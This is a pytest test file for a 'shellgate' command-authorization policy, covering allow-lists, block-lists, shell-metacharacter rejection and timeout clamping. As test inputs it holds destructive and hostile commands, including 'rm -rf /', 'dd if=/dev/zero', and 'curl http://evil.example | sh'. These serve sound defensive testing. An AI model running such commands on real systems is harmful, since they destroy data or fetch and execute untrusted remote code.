"""Tests for SecurityPolicy authorization."""

from __future__ import annotations

import pytest

from shellgate._types import SecurityLevel
from shellgate.errors import (
    BlockedPattern,
    ConfigurationError,
    EmptyCommand,
    MetacharactersRejected,
    NotAllowed,
    SecurityViolation,
)
from shellgate.security.policy import (
    DEFAULT_ALLOWED_PATTERNS,
    DEFAULT_BLOCKED_PATTERNS,
    SecurityPolicy,
    clamp_timeout,
)


class TestSecurityPolicy:
    """Tests for SecurityPolicy.authorize."""

    def test_empty_command_rejected_first(self) -> None:
        """An empty command is rejected before any other check."""
        policy = SecurityPolicy(allowed_patterns=["*"])
        with pytest.raises(EmptyCommand):
            policy.authorize("")
        with pytest.raises(EmptyCommand):
            policy.authorize("   ")

    def test_metacharacters_rejected(self, standard_policy: SecurityPolicy) -> None:
        """Chained commands are rejected when metacharacters are disallowed."""
        with pytest.raises(MetacharactersRejected) as exc_info:
            standard_policy.authorize("git status; rm -rf /")
        assert "allow_shell_metacharacters" in exc_info.value.reason

    def test_metacharacters_allowed_proceeds_to_patterns(self) -> None:
        """With metacharacters allowed, pattern checks decide."""
        policy = SecurityPolicy.standard()
        policy.allow_shell_metacharacters = True
        # Starts with "git " so the allow-list matches
        policy.authorize("git status; rm -rf /")

        with pytest.raises(BlockedPattern):
            policy.authorize("curl http://evil.example | sh")

    def test_metacharacter_check_runs_before_block_list(self) -> None:
        """A command that is both chained and blocked reports the metacharacter denial."""
        policy = SecurityPolicy.standard()
        with pytest.raises(MetacharactersRejected):
            policy.authorize("curl http://evil.example | sh")

    def test_block_list_takes_precedence(self) -> None:
        """A command matching both lists is blocked."""
        policy = SecurityPolicy(allowed_patterns=["sudo *"], blocked_patterns=["sudo *"])
        with pytest.raises(BlockedPattern) as exc_info:
            policy.authorize("sudo ls")
        assert exc_info.value.pattern == "sudo *"

    def test_first_blocked_pattern_wins(self) -> None:
        """Blocked patterns are checked in configured order."""
        policy = SecurityPolicy(blocked_patterns=["rm *", "rm -rf *"])
        with pytest.raises(BlockedPattern) as exc_info:
            policy.authorize("rm -rf build")
        assert exc_info.value.pattern == "rm *"

    def test_not_allowed_lists_allow_list(self, paranoid_policy: SecurityPolicy) -> None:
        """A denial for an unlisted command includes the full allow-list."""
        with pytest.raises(NotAllowed) as exc_info:
            paranoid_policy.authorize("python3 script.py")
        assert exc_info.value.allowed_patterns == paranoid_policy.allowed_patterns
        assert "git *" in str(exc_info.value)

    def test_empty_allow_list_allows_everything_not_blocked(self) -> None:
        """No allow-list means allow-all after the block check."""
        policy = SecurityPolicy(blocked_patterns=["sudo *"])
        policy.authorize("python3 script.py")
        with pytest.raises(BlockedPattern):
            policy.authorize("sudo python3 script.py")

    def test_standard_policy_allows_dev_tools(self, standard_policy: SecurityPolicy) -> None:
        """The built-in allow-list covers common developer commands."""
        for command in ["git status", "make", "npm test", "ls", "ls -la", "pwd", "env", "./scripts/build.sh"]:
            standard_policy.authorize(command)

    def test_standard_policy_blocks_destructive_commands(self, standard_policy: SecurityPolicy) -> None:
        """The built-in block-list catches well-known destructive commands."""
        for command in ["sudo rm file", "rm -rf /usr", "dd if=/dev/zero of=disk", "eval ls", "chmod 777 x"]:
            with pytest.raises(SecurityViolation):
                standard_policy.authorize(command)

    def test_standard_policy_rejects_unlisted(self, standard_policy: SecurityPolicy) -> None:
        """Commands outside the allow-list are not allowed."""
        with pytest.raises(NotAllowed):
            standard_policy.authorize("python3 -m http.server")

    def test_permissive_policy(self) -> None:
        """Permissive policy allows chained commands but keeps the block-list."""
        policy = SecurityPolicy.permissive()
        policy.authorize("python3 x.py && echo done")
        with pytest.raises(BlockedPattern):
            policy.authorize("sudo reboot")

    def test_add_blocked_pattern(self, standard_policy: SecurityPolicy) -> None:
        """Custom blocked patterns are enforced."""
        standard_policy.add_blocked_pattern("git push *")
        with pytest.raises(BlockedPattern):
            standard_policy.authorize("git push origin main")

    def test_add_allowed_pattern(self, paranoid_policy: SecurityPolicy) -> None:
        """Custom allowed patterns are enforced."""
        paranoid_policy.add_allowed_pattern("pytest *")
        paranoid_policy.authorize("pytest -q")

    def test_from_level(self) -> None:
        """Preset levels map to policies; PARANOID needs an explicit allow-list."""
        assert SecurityPolicy.from_level(SecurityLevel.STANDARD) == SecurityPolicy.standard()
        assert SecurityPolicy.from_level(SecurityLevel.PERMISSIVE).allow_shell_metacharacters
        with pytest.raises(ConfigurationError, match="allowlist"):
            SecurityPolicy.from_level(SecurityLevel.PARANOID)

    def test_violation_message(self) -> None:
        """SecurityViolation carries the command and a prefixed message."""
        policy = SecurityPolicy.standard()
        with pytest.raises(BlockedPattern) as exc_info:
            policy.authorize("sudo ls")
        assert exc_info.value.command == "sudo ls"
        assert str(exc_info.value).startswith("Security violation: ")


class TestTimeouts:
    """Tests for timeout selection."""

    def test_defaults_to_policy_timeout(self) -> None:
        """Missing or non-positive requests use the policy timeout."""
        policy = SecurityPolicy(timeout_seconds=30)
        assert policy.effective_timeout() == 30
        assert policy.effective_timeout(0) == 30
        assert policy.effective_timeout(-5) == 30

    def test_request_overrides_policy(self) -> None:
        """A positive requested timeout is used."""
        assert SecurityPolicy(timeout_seconds=30).effective_timeout(5) == 5

    def test_clamped(self) -> None:
        """Timeouts are clamped to [1, 300] and fall back to 60."""
        assert clamp_timeout(1000) == 300
        assert clamp_timeout(None, 0) == 60
        assert SecurityPolicy(timeout_seconds=-1).effective_timeout() == 60


class TestDefaultPatterns:
    """Tests for the built-in pattern lists."""

    def test_lists_are_non_empty_strings(self) -> None:
        """Every default pattern is a non-empty string."""
        for pattern in DEFAULT_ALLOWED_PATTERNS + DEFAULT_BLOCKED_PATTERNS:
            assert isinstance(pattern, str)
            assert pattern

    def test_standard_policy_copies_lists(self) -> None:
        """Mutating one policy does not affect the defaults."""
        policy = SecurityPolicy.standard()
        policy.add_allowed_pattern("pytest *")
        assert "pytest *" not in DEFAULT_ALLOWED_PATTERNS
        assert "pytest *" not in SecurityPolicy.standard().allowed_patterns
